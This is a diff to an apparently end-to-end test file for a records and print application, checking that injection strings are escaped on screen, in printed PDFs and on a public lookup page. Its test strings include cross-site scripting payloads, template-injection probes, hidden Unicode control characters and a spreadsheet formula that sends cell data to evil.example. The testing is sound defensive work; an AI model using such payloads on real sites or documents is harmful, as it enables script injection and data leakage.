@@ -7,11 +7,12 @@ import {tmpdir} from 'node:os';
 import {join} from 'node:path';
 import {after, test} from 'node:test';
 
+import {pdf, squash} from './paper.mjs';
 import {bin, openPage, openTown} from './stage.mjs';
 
 /** Long enough for some fields, short enough for others. */
 const kTexts = ['<img src=x onerror="window.hurt=1">', '"\'><script>window.hurt=1</script>', '<svg/onload=window.hurt=1>{{7*7}}${hurt}', 'javascript:window.hurt=1//', '<b>粗</b>',
-  '&lt;b&gt;&#x4F8B;&amp; %3Cscript%3E \\u003c', '𠀀𪚥'.repeat(25), '请用 inbox amend (step x) check resolve', '=HYPERLINK("http://evil.example/?"&A1)'];
+  '&lt;b&gt;&#x4F8B;&amp; %3Cscript%3E \\u003c', '𠮷𤋮'.repeat(24) + '𪚥', '请用 inbox amend (step x) check resolve', '=HYPERLINK("http://evil.example/?"&A1)'];
 /** Nobody sees them, or they turn the direction of what follows: told, not kept. */
 const kUnseen = ['例\u202e额金', '例\u200b样', '例\u2028一', '例\u0007样', '例\ufeff样', '例\u2066一\u2069'];
 const bytes = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
@@ -58,21 +59,34 @@ async function turn(page, url, paper) {
   await page.waitForFunction((no) => [...document.querySelectorAll('.head .sub, .sheet, .note.warn')].some((one) => one.textContent.includes(no) || one.textContent.includes('没有可打印')), paper.doc_no);
 }
 
+/** Without what no font here can draw: that is printed as a code below. */
+const onPaper = (text) => squash(text).replaceAll('𪚥', '');
+
 /** Every page of the desk that shows the paper. */
-async function atDesk(page, origin, paper, forms) {
+async function atDesk(town, page, origin, paper, forms) {
   const texts = textsOf(paper.form);
   await turn(page, origin + '/#/show/' + paper.id, paper);
   await shows(page, texts, `${paper.type} as a record`);
   await turn(page, origin + '/#/print/' + paper.id, paper);
-  const places = new Set(forms(paper.type));
-  const printed = textsOf(Object.fromEntries(Object.entries(paper.form).filter(([name]) => places.has(name))));
+  const printed = new Set();
   let told = '';
   for (const tab of await page.$$('.tabs button')) {
     await tab.click();
-    told += await says(page);
     await clean(page, `${paper.type} on paper`);
+    told += onPaper((await pdf(town.folder, page)).raw);
+    const label = await tab.textContent();
+    const form = forms(paper.type).find((one) => label.includes(one.title.replace(/\{\w+\}/, '')));
+    for (const row of form.rows) {
+      for (const line of row.lines ? paper.form[row.lines] || [] : [paper.form]) {
+        for (const cell of row.cells.filter((one) => one.field && !one.as && !one.masked)) {
+          const text = line[cell.field.split('|').find((name) => line[name])];
+          if (kTexts.includes(text)) printed.add(text);
+        }
+      }
+    }
   }
-  assert.ok(!printed.length || printed.some((one) => told.includes(one)), `${paper.type} on paper: ${told.slice(0, 300)}`);
+  assert.deepEqual([...printed].filter((one) => !told.includes(onPaper(one))), [], `${paper.type} on paper: ${told}`);
+  return printed.size;
 }
 
 const open = async (...asked) => { const town = await openTown(...asked); towns.push(town); return town; };
@@ -90,13 +104,14 @@ for (const profile of ['daye', 'yantai']) {
       const kept = town.command(one.desk, ['show', one.id]).record;
       for (const [name, value] of Object.entries(one.form)) if (kTexts.includes(value)) assert.equal(kept[name], value, `${one.type} ${name}`);
     }
+    let printed = 0;
     const desks = [...new Set(papers.map((one) => one.desk))];
     for (const data of desks) {
       const served = await town.serve(data);
       const page = await watched(town, served.url);
       await page.waitForSelector('.keys a');
-      const forms = (type) => town.command(data, ['fields', type]).fields.filter((one) => one.print).map((one) => one.name);
-      for (const paper of papers.filter((one) => one.desk === data)) await atDesk(page, served.origin, paper, forms);
+      const forms = (type) => town.command(data, ['fields', type]).forms;
+      for (const paper of papers.filter((one) => one.desk === data)) printed += await atDesk(town, page, served.origin, paper, forms);
       for (const path of ['', 'find', 'inbox', 'daily', 'clearing', 'status']) {
         await page.goto(served.origin + '/#/' + path);
         await page.waitForSelector('.head h1');
@@ -120,6 +135,7 @@ for (const profile of ['daye', 'yantai']) {
       await page.context().close();
       await served.stop();
     }
+    assert.ok(printed > 8, `${printed} of the texts are printed`);
   });
 }
 
@@ -259,5 +275,28 @@ test('at the city: record, explanation, queue, conflict, paper, lists, audit, ta
     }
     assert.ok(read > 5, `${read} reports of ${list.length}`);
   } finally { rmSync(folder, {recursive: true, force: true}); }
+  await page.context().close();
+});
+
+test('on the page for those outside: who has signed in, what is asked', async () => {
+  const [town] = towns;
+  const run = (words, input = '') => execFileSync(join(bin, 'jindu-city'), ['--store', town.store, '--json', ...words], {input});
+  run(['staff', 'add', 'x2', '--name', kTexts[4], '--role', 'employer_clerk', '--employer', '91350100M000100Y43']);
+  run(['staff', 'passphrase', 'x2', '--new-file', '-'], 'x2 has a passphrase\n');
+  await town.say('city stop');
+  const outside = await town.say('city start outside');
+  const page = await watched(town, outside.lookup);
+  for (const text of kTexts) {
+    await page.fill('[name=number]', text);
+    await page.fill('[name=tail]', text);
+    await page.press('[name=tail]', 'Enter');
+    await page.waitForSelector('.note.act');
+    await clean(page, 'asked outside');
+  }
+  await page.fill('[name=operator]', 'x2');
+  await page.fill('[name=passphrase]', 'x2 has a passphrase');
+  await page.press('[name=passphrase]', 'Enter');
+  await page.waitForSelector('[name=month]');
+  await shows(page, [kTexts[4]], 'who has signed in');
   await page.context().close();
 });
